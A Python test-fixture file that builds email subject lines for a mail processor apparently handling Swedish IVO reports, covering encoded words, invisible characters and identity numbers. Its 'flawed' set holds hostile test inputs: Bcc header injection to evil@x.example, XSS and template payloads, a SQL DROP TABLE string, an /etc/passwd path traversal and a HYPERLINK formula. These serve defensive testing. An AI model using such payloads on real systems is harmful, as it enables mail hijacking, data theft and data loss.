"""Subjects: encoded words and bombs, injections, marks that cannot be seen, identity numbers, what looks like a link or a program."""

from tests.letters.made import LEFT, PERSONAL, REJECTED, RIGHT, SILENT, WRONG, Hell, family, mail, word

NUMBER = "19121212-1212"


def titled(subject: str | bytes):
    return lambda who: mail(who, subject=subject)


def split_words(text: str, size: int, charset: str = "utf-8") -> str:
    """Encoded words that cut characters in two, as many programs write them."""
    import base64

    raw = text.encode(charset)
    return "\r\n ".join(f"=?{charset}?B?{base64.b64encode(raw[n : n + size]).decode()}?=" for n in range(0, len(raw), size))


def quoted(text: str, charset: str = "utf-8") -> str:
    return f"=?{charset}?Q?" + "".join(f"={byte:02X}" for byte in text.encode(charset)) + "?="


READ = {
    "one word": titled(word(RIGHT)),
    "quoted": titled(quoted(RIGHT)),
    "Windows": titled(word(RIGHT, "cp1252")),
    "UTF-16": titled(word(RIGHT, "utf-16")),
    "in lower case": titled(word(RIGHT).replace("=?utf-8?B?", "=?utf-8?b?")),
    "cut between bytes": titled(split_words(RIGHT, 5)),
    "cut after each byte": titled(split_words(RIGHT, 1)),
    "raw UTF-8": titled(RIGHT),
    "raw Windows": titled(RIGHT.encode("cp1252")),
    "with a hyphen": titled(RIGHT.replace("–", "-")),
    "folded": titled(RIGHT.replace(" ", "\r\n ")),
    "folded with tabs": titled(RIGHT.replace(" ", "\r\n\t")),
    "a word in the middle": titled(f"IVO {word('–')} Nyrapportering 2026-04-15, 9{word('§')}4"),
    "zero-width signs": titled("\u200bIVO\u200b – Nyrapportering\ufeff 2026-04-15, 9§4\u200d"),
    "a right-to-left mark": titled(f"\u200f{RIGHT}\u200e"),
    "overridden direction": titled(f"\u202d{RIGHT}\u202c"),
    "isolates": titled(f"\u2066{RIGHT}\u2069"),
    "NULs": titled(RIGHT.replace(" ", "\0")),
    "a bell and an escape": titled(f"\x07{RIGHT}\x1b"),
    "a bare return": titled(RIGHT.replace(" ", "\r")),
    "soft hyphens": titled(RIGHT.replace("rapp", "rapp\u00ad")),
    "tag signs": titled(f"\U000e0041{RIGHT}\U000e007f"),
    "decomposed": titled(RIGHT.replace("å", "a\u030a")),
    "an encoded language": titled(f"=?utf-8*sv?B?{word(RIGHT).split('?')[3]}?="),
    "prefixes": titled(f"SV: VB: [EXTERN] Re: Fwd: {RIGHT}"),
    "many prefixes": titled("SV: " * 100 + RIGHT),
    "many blanks": titled(RIGHT.replace(" ", " " * 100)),
    "Outlook's mojibake": titled(RIGHT.encode().decode("cp1252").replace("\x93", "“")),
}  # fmt: skip
FLAWED = {
    "no date": titled(WRONG),
    "a Bcc inside a word": titled(word(f"{WRONG}\r\nBcc: evil@x.example")),
    "a Bcc after a bare return": titled(f"{WRONG}\rBcc: evil@x.example"),
    "a Bcc after a line separator": titled(f"{WRONG}\u2028Bcc: evil@x.example"),
    "a Bcc after a NUL": titled(f"{WRONG}\0\r\n Bcc: evil@x.example"),
    "a Bcc in quoted returns": titled(f"{WRONG} =?utf-8?Q?=0D=0ABcc:_evil=40x.example=0D=0A=0D=0A<h1>?="),
    "a blank line inside a word": titled(word(f"{WRONG}\n\n<html><script>alert(1)</script>")),
    "HTML": titled(f"{WRONG} <img src=x onerror=alert(1)>"),
    "a template": titled(f"{WRONG} {{{{ 7 * 7 }}}} {{% include 'x' %}}"),
    "a mailto link": titled(f"{WRONG} mailto:x@evil.example?bcc=y@evil.example&body=hej"),
    "an address": titled(f"{WRONG} kunigunda@evil.example"),
    "a formula": titled(f"{WRONG} =HYPERLINK(\"http://evil.example\")"),
    "a format": titled(f"{WRONG} %s %n {{0.__class__}}"),
    "SQL": titled(f"{WRONG}'; DROP TABLE letter; --"),
    "a path": titled(f"{WRONG} ../../../etc/passwd"),
    "a header": titled(f"{WRONG} X-Ivobot: name=digest; key=a"),
    "an encoded word in an encoded word": titled(word(f"{WRONG} {word('Bcc: evil@x.example')}")),
    "half of an encoded word": titled(f"{WRONG} =?utf-8?Q?abc"),
    "a word of no charset": titled(f"{WRONG} =?nosuch?Q?=C3=A5?="),
    "a word in zlib": titled(f"{WRONG} =?zlib?B?eJw=?="),
    "10 000 letters": titled(f"{WRONG} " + "x" * 10_000),
    "10 000 encoded words": titled(f"{WRONG} " + "\r\n ".join(["=?utf-8?q?a?="] * 4000)),
    "broken encoded words": titled(f"{WRONG} " + "=?utf-8?q?" * 5000),
    "question marks": titled(f"{WRONG} =" + "?" * 20_000),
    "20 000 combining marks": titled(f"{WRONG} a" + "\u0301" * 10_000),
    "emoji": titled(f"{WRONG} 😀👩‍👩‍👧"),
    "digits of other scripts": titled("IVO – Nyrapportering ٢٠٢٦-٠٤-١٥, 9§4"),
    "Cyrillic that looks Latin": titled("ІVО – Νуrарроrtеrіng"),
    "a name": titled(f"{WRONG} Kunigunda Törnrosensten"),
}  # fmt: skip
NUMBERED = {
    "plain": titled(f"{RIGHT}, {NUMBER}"),
    "first": titled(f"{NUMBER} {RIGHT}"),
    "in an encoded word": titled(word(f"{RIGHT} {NUMBER}")),
    "cut between encoded words": titled(split_words(f"{RIGHT} {NUMBER}", 7)),
    "with a zero-width sign": titled(f"{RIGHT} 191212\u200b12-1212"),
    "in wide figures": titled(f"{RIGHT} １９１２１２１２-１２１２"),
    "with a line break": titled(f"{RIGHT} 19121212-\r\n 1212"),
    "after 50 000 letters": titled(f"{WRONG} " + "x" * 50_000 + f" {NUMBER}"),
    "with a bare return": titled(f"{RIGHT} 19121212\r1212"),
}
PRIVATE = {
    "a question": titled(f"Fråga om {NUMBER}"),
    "a question, encoded": titled(quoted(f"Angående {NUMBER}")),
}
OTHER = {
    "a question": titled("Fråga om IVO-rapportering"), "of another time": titled("VB: IVO begär yttrande i ärende"), "a visit": titled("IVO kommer på tillsyn 2026-05-12"),
    "spaces": titled("   "), "an empty encoded word": titled("=?utf-8?B??="), "NULs only": titled("\0\0\0"), "50 000 letters": titled("x" * 50_000),
    "50 000 question marks": titled("?" * 50_000), "signs": titled("§§§ –––– 9 9 9"), "a lottery": titled("You WON!!! =?utf-8?B?8J+SsA==?="),
}  # fmt: skip
LETTERS: list[Hell] = [
    *family("title", READ),
    *family("flawed title", FLAWED, REJECTED),
    *family("identity number in a title", NUMBERED, PERSONAL),
    *family("identity number in another title", PRIVATE, SILENT),
    *family("another title", OTHER, LEFT),
    Hell("identity number in an automatic answer", titled(f"Automatiskt svar: {NUMBER}"), SILENT, robot=True),
]
